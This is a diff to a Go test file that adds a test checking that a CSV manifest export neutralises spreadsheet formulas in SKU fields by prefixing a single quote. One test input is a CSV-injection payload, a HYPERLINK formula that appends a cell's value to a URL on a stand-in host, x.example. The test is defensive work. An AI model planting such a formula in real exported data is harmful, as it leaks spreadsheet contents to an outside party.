@@ -8,6 +8,7 @@ import (
 	"encoding/hex"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
 	"strconv"
 	"path/filepath"
@@ -371,5 +372,40 @@ func TestExportRefusesCorruptRecord(t *testing.T) {
 				t.Fatalf("Verify: %v", err)
 			}
 		})
+	}
+}
+
+// A SKU a spreadsheet would run as a formula lands in the CSV manifest as
+// text: a leading single quote (OWASP's advice against CSV injection).
+// The JSON Lines manifest and the trailer keep the SKU as it is.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	s := newStore(t)
+	for i, sku := range []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A2)", "plain"} {
+		id := fmt.Sprintf("F%d", i)
+		if _, err := s.CreateBatch(Batch{ID: id, SKU: sku, KeyVersion: 1}); err != nil {
+			t.Fatal(err)
+		}
+		encode(t, s, uidN(i), id)
+		data, _ := export(t, s, id, ExportOptions{Format: "csv"})
+		r := csv.NewReader(bytes.NewReader(data))
+		r.FieldsPerRecord = -1
+		rows, err := r.ReadAll()
+		if err != nil {
+			t.Fatalf("%s:\n%s: %v", sku, data, err)
+		}
+		want := sku
+		if sku != "plain" {
+			want = "'" + sku
+		}
+		if got := rows[1][2]; got != want {
+			t.Errorf("sku %q is the csv cell %q, want %q", sku, got, want)
+		}
+		if !strings.Contains(rows[2][3], "sku="+sku) {
+			t.Errorf("trailer %v", rows[2])
+		}
+		jl, _ := export(t, s, id, ExportOptions{})
+		if m := parseJSONL(t, jl); m.records[0].SKU != sku {
+			t.Errorf("jsonl sku %q", m.records[0].SKU)
+		}
 	}
 }
